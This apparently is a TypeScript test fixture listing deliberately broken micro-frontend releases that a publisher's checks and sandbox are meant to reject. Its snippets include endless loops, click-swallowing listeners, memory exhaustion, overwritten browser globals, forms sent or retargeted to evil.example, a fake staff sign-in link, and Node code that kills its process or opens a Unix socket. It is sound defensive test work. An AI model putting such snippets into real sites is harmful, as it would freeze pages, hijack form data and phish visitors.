import { readFileSync } from 'node:fs';
import { createRequire } from 'node:module';
import { dirname, join } from 'node:path';
import type { RemoteDraft } from './testing/broken-releases-fixture.ts';

export interface BrokenRelease {
  /** The behavior of the release. */
  title: string;
  /** Rules, at least one of which rejects the release. Without rules, the release is published and does not affect other remotes. */
  rules: string[];
  /** Text of a note in the verdict. */
  note?: string;
  draft: Partial<RemoteDraft>;
}

const before = (code: string) => (source: string) => `${code}\n${source}`;
const after = (code: string) => (source: string) => `${source}\n${code}`;

/** Adds an effect to the browser build only. */
const browserEffect = (code: string) => ({
  'page.js': (source: string) => source.replace('const site =', `useEffect(() => { ${code} }, []); const site =`),
});

const reactFolder = dirname(createRequire(import.meta.url).resolve('react'));
const react = readFileSync(join(reactFolder, 'cjs/react.production.js'), 'utf8');

export const brokenScripts: BrokenRelease[] = [
  {
    title: 'blocks the browser when its page is left',
    rules: ['hang'],
    draft: { browser: browserEffect('addEventListener("pagehide", () => { for (;;); });') },
  },
  {
    title: 'blocks the browser for 20 s when its page becomes hidden',
    // On a busy machine, the checks see first that a link does not navigate.
    rules: ['hang', 'navigation'],
    draft: {
      browser: browserEffect(
        'document.addEventListener("visibilitychange", () => { for (const end = Date.now() + 20_000; Date.now() < end; ); });',
      ),
    },
  },
  {
    title: 'throws at the top of remoteEntry.js',
    rules: ['exception'],
    draft: { browser: { 'remoteEntry.js': before('throw new Error("top");') } },
  },
  { title: 'has a syntax error in a page chunk', rules: ['exception'], draft: { browser: { 'page.js': after('}}') } } },
  {
    title: 'lists a chunk that is not among its files',
    rules: ['files'],
    draft: { change: ({ chunks }) => void chunks.at(-1)?.js.push('gone.js') },
  },
  {
    title: 'lacks a chunk that it loads',
    rules: ['request'],
    draft: {
      change: (release) => {
        release.files = release.files.filter(({ path }) => path !== 'page.js');
        for (const chunk of release.chunks) chunk.js = chunk.js.filter((path) => path !== 'page.js');
      },
    },
  },
  {
    title: 'has an HTML page as a chunk',
    rules: ['exception'],
    draft: { browser: { 'page.js': () => '<!doctype html><title>Not found</title>' } },
  },
  { title: 'throws in an effect', rules: ['outage'], draft: { effect: 'throw new Error("effect");' } },
  {
    title: 'throws half a second after hydration',
    rules: ['outage'],
    draft: {
      effect: 'setTimeout(() => setState(1), 500);',
      adds: `state === 1 ? (() => { throw new Error('late'); })() : null`,
    },
  },
  { title: 'has an endless loop in an effect', rules: ['hang'], draft: { effect: 'for (;;);' } },
  {
    title: 'has an endless loop in a timer',
    rules: ['hang'],
    draft: { effect: 'setTimeout(() => { for (;;); }, 300);' },
  },
  {
    title: 'updates its state in an effect without end',
    rules: ['main-thread', 'exception', 'hang'],
    draft: { effect: 'setState((count) => count + 1);', dependencies: '[state]' },
  },
  {
    title: 'has another text in the browser',
    rules: ['changed-content'],
    draft: { browser: { 'page.js': (source) => source.replaceAll('access control', 'alarm systems') } },
  },
  {
    title: 'pushes content down after hydration',
    rules: ['layout-shift'],
    draft: {
      effect: `const box = document.createElement('div'); box.style.height = '900px';
        setTimeout(() => document.querySelector('h1').before(box), 200);`,
    },
  },
  {
    title: 'swallows all clicks',
    rules: ['listener'],
    draft: {
      effect: `document.addEventListener('click', (event) => { event.preventDefault(); event.stopImmediatePropagation(); }, true);`,
    },
  },
  {
    title: 'allocates memory in a timer without end',
    rules: ['heap'],
    draft: { effect: 'const kept = []; setInterval(() => kept.push(new Uint8Array(8e6).fill(1)), 20);' },
  },
  {
    title: 'replaces window.fetch',
    rules: ['globals'],
    draft: { effect: `window.fetch = () => Promise.reject(new Error('offline'));` },
  },
  {
    title: 'replaces history.pushState',
    rules: ['globals'],
    draft: { effect: `history.pushState = () => { throw new Error('no steps'); };` },
  },
  {
    title: 'replaces Array.prototype.map in the browser',
    rules: ['globals', 'exception', 'hydration'],
    draft: { browser: { 'page.js': before('Array.prototype.map = () => [];') } },
  },
  {
    title: 'replaces Array.prototype.map in both builds',
    rules: ['globals', 'render', 'output'],
    draft: {
      onLoad: 'Array.prototype.map = () => [];',
      browser: { 'page.js': before('Array.prototype.map = () => [];') },
    },
  },
  {
    title: 'removes the header',
    rules: ['visibility', 'changed-content'],
    draft: { effect: `document.querySelector('header').remove();` },
  },
  {
    title: 'covers the whole page',
    rules: ['visibility'],
    draft: {
      css: '.PREFIX-cover{position:fixed;inset:0;z-index:2147483647}',
      adds: `h('div', { className: 'PREFIX-cover' })`,
    },
  },
  {
    title: 'hides everything by a class on body',
    rules: ['document-attributes'],
    draft: { css: '.PREFIX-x *{display:none}', effect: `document.body.classList.add('PREFIX-x');` },
  },
  {
    title: 'cannot be used with a screen reader',
    rules: ['accessibility'],
    draft: {
      adds: `h('div', null, h('img', { src: '/favicon.ico' }), h('input', { name: 'unlabelled' }), h('button', { type: 'button' }),
        h('p', { role: 'bogus' }, 'Small print'))`,
    },
  },
  {
    title: 'has a head and no content',
    rules: ['content'],
    draft: { component: `return h('div', null, ...head, h('h1', null, '.'));` },
  },
  {
    title: 'sends a form to another host',
    rules: ['policy'],
    draft: { adds: `h('form', { action: 'https://evil.example/' }, h('button', { type: 'submit' }, 'Go'))` },
  },
  {
    title: 'changes the target of a form in an effect',
    rules: ['changed-content'],
    draft: { effect: `document.querySelector('main form').action = 'https://evil.example/';` },
  },
  {
    title: 'bundles a second copy of React',
    rules: ['exception'],
    draft: {
      browser: {
        'page.js': (source) => `const second = {}; { const exports = second; ${react} }
          ${source.replace('const { createElement: h, useEffect, useState } = React;', 'const { createElement: h, useEffect, useState } = second;')}`,
      },
    },
  },
  {
    title: 'reads a context without its provider, in the browser only',
    rules: ['exception'],
    draft: {
      browser: {
        'page.js': (source) =>
          source.replace('const site =', 'React.useContext(React.createContext()).value; const site ='),
      },
    },
  },
  {
    title: 'contains compressed copies',
    rules: ['release-file'],
    draft: { files: { 'page.css.br': 'other bytes' } },
  },
];

/** A staff document reloads once when its page cannot be loaded. */
export const brokenStaffScripts: BrokenRelease[] = [
  {
    title: 'throws at the top of routes.js',
    rules: ['self-navigation'],
    draft: { browser: { 'routes.js': before('throw new Error("top");') } },
  },
  {
    title: 'has a syntax error in remoteEntry.js and throws in Node',
    rules: ['self-navigation'],
    draft: { onLoad: 'throw new Error("node");', browser: { 'remoteEntry.js': after('}}') } },
  },
  {
    title: 'throws in the first page',
    rules: ['self-navigation'],
    draft: { browser: { 'page.js': before('throw new Error("top");') } },
  },
];

/** Releases that mislead visitors and violate no rule. Managers see links to unknown hosts in the verdict. */
export const published: BrokenRelease[] = [
  {
    title: 'copies the title and words of another remote',
    rules: [],
    draft: { copies: '/about' },
  },
  {
    title: 'links to a sign-in page on another host',
    rules: [],
    note: 'lumenward-login.evil.example',
    draft: { adds: `h('a', { href: 'https://lumenward-login.evil.example/admin' }, 'Staff sign-in')` },
  },
];

const builtin = (name: string) => `process.getBuiltinModule('${name}')`;

/** Code of the Node build that runs when the release is loaded. `renderer/isolation.test.ts` has all ways out of the sandbox. */
export const isolation: BrokenRelease[] = [
  {
    title: 'connects to a Unix socket',
    rules: ['permission'],
    draft: {
      onLoad: `await new Promise((resolve, reject) =>
        ${builtin('net')}.connect('/tmp/publisher.sock').once('connect', resolve).once('error', reject));`,
    },
  },
  {
    title: 'allocates 2 GB of buffers',
    rules: ['memory'],
    draft: { onLoad: 'const kept = []; for (let i = 0; i < 20; i++) kept.push(Buffer.alloc(1e8));' },
  },
  {
    title: 'ends its process',
    rules: ['permission', 'render'],
    draft: { onLoad: `process.kill(process.pid, 'SIGKILL');` },
  },
];
